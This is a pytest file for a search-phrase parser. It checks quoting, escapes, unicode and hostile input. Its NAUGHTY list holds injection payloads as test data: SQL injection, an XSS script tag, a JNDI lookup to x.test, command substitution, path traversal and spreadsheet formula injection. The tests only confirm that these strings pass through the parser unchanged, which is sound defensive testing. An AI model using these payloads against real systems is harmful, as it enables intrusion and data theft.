"""Quotes, escapes, unicode and hostile text in search phrases."""

from __future__ import annotations

import pytest

from sealtrail.query import Field, Term, parse_phrase


def texts(phrase: str) -> tuple[str, ...]:
    query = parse_phrase(phrase)
    assert all(term.field is Field.TEXT and not term.negate for term in query.terms)
    return tuple(str(value) for term in query.terms for value in term.values)


def test_quoted_value_holds_spaces() -> None:
    assert parse_phrase('actor:"Ann Lee" target:"usr 1"').terms == (
        Term(Field.ACTOR, ("Ann Lee",)),
        Term(Field.TARGET, ("usr 1",)),
    )


def test_quoted_text_is_one_value() -> None:
    assert texts('"role changed to admin"') == ("role changed to admin",)


def test_quoted_text_keeps_inner_whitespace_as_typed() -> None:
    assert texts('"  two  spaces "') == ("  two  spaces ",)


@pytest.mark.parametrize(
    ("phrase", "expected"),
    [
        (r'"say \"hi\""', ('say "hi"',)),
        (r'"back\\slash"', ("back\\slash",)),
        (r'"C:\path"', ("C:\\path",)),
        (r"O\"Brien", ('O"Brien',)),
        (r"a\\b", ("a\\\\b",)),
        ('"a"b"c d"', ("abc d",)),
        (r'"ends with \\"', ("ends with \\",)),
    ],
)
def test_escapes(phrase: str, expected: tuple[str, ...]) -> None:
    assert texts(phrase) == expected


def test_escaped_quote_inside_a_key_value() -> None:
    assert parse_phrase(r'actor:"Ann \"the admin\" Lee"').terms == (
        Term(Field.ACTOR, ('Ann "the admin" Lee',)),
    )


def test_quoted_key_is_text_not_a_key() -> None:
    assert texts('"colour:red"') == ("colour:red",)
    assert texts('"action":x') == ("action:x",)


def test_text_with_a_colon_that_is_not_a_key_shape() -> None:
    assert texts("10:30 é:x _a:b") == ("10:30", "é:x", "_a:b")


@pytest.mark.parametrize(
    "word",
    [
        "Zoë",
        "日本語",
        "🙂",
        "👩‍👩‍👧‍👦",
        "e\u0301",
        "\u202eevil",
        "زیبا",
        "ﷺ",
        "Ω≈ç√∫",
        "\u200b",
        "𝕿𝖍𝖊",
    ],
)
def test_unicode_bare_words_are_kept_as_typed(word: str) -> None:
    assert texts(word) == (word,)
    assert texts(f'"{word} {word}"') == (f"{word} {word}",)


NAUGHTY = [
    "' OR 1=1 --",
    "'; DROP TABLE events; --",
    "Robert'); DROP TABLE students;--",
    "<script>alert(1)</script>",
    "%s%s%n%x",
    "${jndi:ldap://x.test/a}",
    "{{7*7}}",
    "NEAR(a b)",
    "a AND b OR NOT c",
    "col:* ^prefix",
    "$(touch /tmp/x)",
    "../../etc/passwd",
    "null undefined NaN Infinity",
    "\\x00\\u0000",
    "=cmd|' /C calc'!A0",
    "1e309 -0 0x1F",
]


@pytest.mark.parametrize("text", NAUGHTY)
def test_naughty_strings_as_quoted_text_pass_through_unchanged(text: str) -> None:
    quoted = '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'
    assert texts(quoted) == (text,)


@pytest.mark.parametrize("text", ["DROP", "*", "OR", "NOT", "'", "`", ";", "%", "a*b", "(", ")"])
def test_naughty_bare_words_pass_through_unchanged(text: str) -> None:
    assert texts(text) == (text,)


def test_naughty_text_in_key_values() -> None:
    assert parse_phrase("""actor_id:"' OR 1=1 --" category:%""").terms == (
        Term(Field.ACTOR_ID, ("' OR 1=1 --",)),
        Term(Field.CATEGORY, ("%",)),
    )


def test_unicode_whitespace_separates_tokens() -> None:
    assert texts("a\u00a0b\u2003c\u3000d\ne\tf") == ("a", "b", "c", "d", "e", "f")


def test_unicode_whitespace_inside_quotes_is_kept() -> None:
    assert texts('"a\u2028b"') == ("a\u2028b",)
